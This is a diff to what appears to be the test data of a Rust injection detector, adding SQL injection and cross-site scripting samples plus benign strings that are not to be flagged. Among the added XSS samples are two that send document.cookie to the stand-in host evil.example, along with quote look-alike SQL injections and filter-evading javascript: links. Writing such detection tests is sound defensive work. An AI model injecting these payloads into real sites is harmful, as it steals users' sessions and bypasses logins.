@@ -90,6 +90,9 @@ const SQLI_ENCODED: &[&str] = &[
     "%2527%2520union%2520select%25201%252C2--",
     "&#39; or 1=1--",
     "\\u0027 or 1=1--",
+    // quote look-alikes a database may convert to quotes
+    "\u{2019} or \u{2018}1\u{2019}=\u{2019}1",
+    "admin\u{02BC} or 1=1--",
     "＇ ｏｒ １＝１－－",
     "JyBvciAxPTEtLQ==", // base64 of "' or 1=1--"
 ];
@@ -115,9 +118,20 @@ const XSS: &[&str] = &[
     // type decides
     "data:text/html;charset=utf-7;base64,pgltzybzcmm9eca+",
     "data:application/xhtml+xml,whatever",
+    // script elements whose code is not an alert: the element decides
+    "<script>var x = document.createElement('iframe');document.body.appendChild(x);var xhr = x.contentWindow.XMLHttpRequest();",
+    "<script>new Image().src='https://evil.example/c?'+document.cookie",
+    // event handlers on unknown elements, no-parenthesis calls and sinks
+    "<x onxxx=1 onxxx=1",
+    "<x/onpointerenter=1",
+    "top[\"al\"+\"ert\"](1)",
+    "<img src=x onerror=\"location='//evil.example/?'+document.cookie\">",
 ];
 
 const XSS_ENCODED: &[&str] = &[
+    // a tab or a line break inside the scheme, which browsers drop
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+    "<a href=\"java%0Ascript:alert(1)\">x</a>",
     "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
     "&lt;img src=x onerror=alert(1)&gt;",
     "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
@@ -142,6 +156,10 @@ const BENIGN: &[&str] = &[
     "1-2-3",
     "<3",
     "I <3 this shop",
+    // no construct that runs script: `->`, assignments, curly apostrophes
+    "Meeting moved: 3pm -> 4pm",
+    "x=1; y=2; z=x+y",
+    "I\u{2019}m sure it\u{2019}s fine, isn\u{2019}t it?",
     "a < b and c > d",
     "jane.doe+news@example.com",
     "https://example.com/search?q=shoes&page=2&sort=price",
